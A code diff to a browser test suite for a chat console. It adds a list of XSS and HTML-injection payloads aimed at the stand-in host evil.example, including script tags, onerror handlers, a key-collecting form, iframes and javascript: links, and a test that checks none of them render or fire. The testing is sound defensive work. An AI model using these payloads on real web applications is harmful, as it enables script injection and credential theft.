@@ -1,5 +1,15 @@
 import { describe, expect, it } from '@jest/globals';
-import { gate, say, startScriptedSystem, status, until, type System, type ScriptedModel, type TenantKeys } from '@concierge/testing';
+import {
+  callTools,
+  gate,
+  say,
+  startScriptedSystem,
+  status,
+  until,
+  type System,
+  type ScriptedModel,
+  type TenantKeys,
+} from '@concierge/testing';
 import { setUpOnce } from '@concierge/testing/set-up';
 import type { Browser, BrowserContextOptions } from 'playwright-core';
 import { chromiumPath, startChromium } from './chromium.ts';
@@ -33,6 +43,25 @@ function holdReply(question: string): ReturnType<typeof gate<void>> {
   model.when(question, [say(numbers.slice(0, half)), until(goOn.opened), say(numbers.slice(half), { chunks: 20, delayMs: 20 })]);
   return goOn;
 }
+
+/** What would run, ask elsewhere, or change the page, were it taken for more than text. */
+const hostile = [
+  '<script>globalThis.owned = 1</script>',
+  '<iframe src="https://evil.example/f"></iframe><object data="https://evil.example/o"></object>',
+  '<form action="https://evil.example/"><input name="key"><button>Go</button></form>',
+  '<style>article { display: none }</style><link rel="stylesheet" href="https://evil.example/s.css">',
+  '<svg onload="globalThis.owned = 1"><use href="https://evil.example/u.svg#x"></use></svg>',
+  '<img src="x" onerror="globalThis.owned = 1"> ![p](https://evil.example/p.png) [go](javascript:globalThis.owned=1)',
+  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/">',
+  '<video src="https://evil.example/v.mp4" autoplay></video><div style="position: fixed">over all</div>',
+];
+
+/** What of that has become part of the page, by its tags and attributes. */
+const taken = `[
+  ...document.querySelectorAll(':is(article, nav, header) :is(script, iframe, object, form, style, link, base, meta, img, video, audio, use)'),
+  ...document.querySelectorAll('[onload], [onerror], article [style*=fixed], [href^="javascript:"]'),
+  ...(globalThis.owned === undefined ? [] : [document.body]),
+].map((node) => node.outerHTML.slice(0, 100))`;
 
 const conversations = ({ page }: ConsolePage) => page.getByRole('navigation', { name: 'Conversations' });
 
@@ -68,7 +97,7 @@ inBrowser('the chat page', () => {
     await visit.shows(visit.page.getByText('No conversations yet'));
     const tab = await visit.openTab();
     await tab.getByLabel('API key').waitFor();
-    expect(visit.complaints).toEqual([]);
+    expect(visit.complaints.texts).toEqual([]);
   });
 
   it('lists a new conversation while its first reply comes', async () => {
@@ -82,7 +111,7 @@ inBrowser('the chat page', () => {
     await visit.turnReaches(0, 'running');
     goOn.open();
     await visit.turnReaches(0, 'done');
-    expect(visit.complaints).toEqual([]);
+    expect(visit.complaints.texts).toEqual([]);
   });
 
   it('streams a reply with its tool calls, and lists the conversation', async () => {
@@ -101,7 +130,6 @@ inBrowser('the chat page', () => {
     const listed = conversations(visit).getByRole('link', { name: /^Who am I/u });
     await listed.waitFor();
     expect(await listed.locator('time').innerText()).not.toContain('in ');
-    expect(visit.complaints).toEqual([]);
   });
 
   it('goes on after a reload in mid-reply, without gap or repetition', async () => {
@@ -148,7 +176,7 @@ inBrowser('the chat page', () => {
     await visit.say('Hello [[say:some **bold** words]]');
     await visit.turnReaches(0, 'done');
     await visit.shows(visit.turn(0).getByText('some **bold** words', { exact: true }));
-    expect(visit.complaints).toEqual([]);
+    expect(visit.complaints.texts).toEqual([]);
   });
 
   it('goes on when the gateway is killed and comes back', async () => {
@@ -194,7 +222,7 @@ inBrowser('the chat page', () => {
     await visit.page.goBack();
     await visit.page.getByRole('button', { name: 'Anhalten' }).click();
     await visit.turnReaches(1, 'done');
-    expect(visit.complaints).toEqual([]);
+    expect(visit.complaints.texts).toEqual([]);
   });
 
   it('says why a turn failed, and asks again', async () => {
@@ -216,6 +244,30 @@ inBrowser('the chat page', () => {
     const link = visit.turn(0).getByRole('link', { name: /our page/u });
     await eventuallyHolds(async () => expect(await link.textContent()).toContain('evil.example'));
     expect(await visit.turn(0).getByRole('img').count()).toBe(0);
+    expect(visit.foreignRequests).toEqual([]);
+  });
+
+  it('takes nothing for more than text, wherever it stands: in messages, titles, files, replies and all of a tool call', async () => {
+    await using visit = await visitWith();
+    const { page } = visit;
+    const text = hostile.join('\n\n');
+    const file = { method: 'PUT', headers: { 'x-api-key': keys.admin, 'content-type': 'text/plain' }, body: text };
+    expect((await fetch(`${system.url}/api/files/memory/evil.md`, file)).status).toBeLessThan(300);
+    const calls = hostile.map((payload) => ({ name: payload, args: { [payload]: payload, nested: { [payload]: [payload] } } }));
+    const reads = { name: 'read', args: { path: 'memory/evil.md' } };
+    model.when(/Hostile/u, [say(text), callTools([...calls, reads])], [say(text)]);
+    const name = '<img src=x onerror=globalThis.owned=1>.txt';
+    await page.locator('input[type=file]').setInputFiles({ name, mimeType: 'text/plain', buffer: Buffer.from(text) });
+    await visit.say(`${text} Hostile`);
+    await visit.turnReaches(0, 'done');
+    await page.reload();
+    await visit.turnReaches(0, 'done');
+    await page.evaluate("for (const card of document.querySelectorAll('article details')) card.open = true");
+    await visit.shows(visit.turn(0).getByText(name));
+    expect(await visit.turn(0).locator('[data-tool]').count()).toBe(hostile.length + 1);
+    await visit.shows(visit.turn(0).locator('[data-tool=read] pre').getByText('over all').first());
+    await visit.shows(conversations(visit).getByRole('link', { name: /script/u }));
+    expect(await page.evaluate(taken)).toEqual([]);
     expect(visit.foreignRequests).toEqual([]);
   });
 
